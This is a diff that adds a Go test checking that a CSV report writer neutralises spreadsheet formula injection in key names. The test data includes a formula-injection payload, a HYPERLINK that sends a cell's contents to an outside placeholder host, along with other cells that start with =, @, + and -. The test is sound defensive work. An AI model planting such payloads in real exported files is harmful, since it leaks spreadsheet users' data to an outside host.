@@ -281,3 +281,32 @@ func TestTagsDiffer(t *testing.T) {
 		}
 	}
 }
+
+// TestCSVKeysAreNotFormulas: a key a spreadsheet would take for a formula
+// (anyone may name one =HYPERLINK(...)) is written as text.
+func TestCSVKeysAreNotFormulas(t *testing.T) {
+	var b bytes.Buffer
+	r, err := NewCSVReport(&b)
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, k := range []string{`=HYPERLINK("http://x/?"&A1,"click")`, "@SUM(1)", "+1", "-1", "plain"} {
+		if err := r.Add(Difference{Kind: Missing, SourceKey: k, DestinationKey: k}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := r.Close(Summary{}); err != nil {
+		t.Fatal(err)
+	}
+	for _, line := range bytes.Split(b.Bytes(), []byte("\n"))[1:] {
+		for _, cell := range bytes.Split(line, []byte(",")) {
+			cell = bytes.TrimPrefix(cell, []byte(`"`))
+			if len(cell) > 0 && bytes.ContainsAny(cell[:1], "=+-@") {
+				t.Errorf("cell %s of %q starts a formula", cell, line)
+			}
+		}
+	}
+	if !bytes.Contains(b.Bytes(), []byte(",plain,")) {
+		t.Error("a plain key changed")
+	}
+}
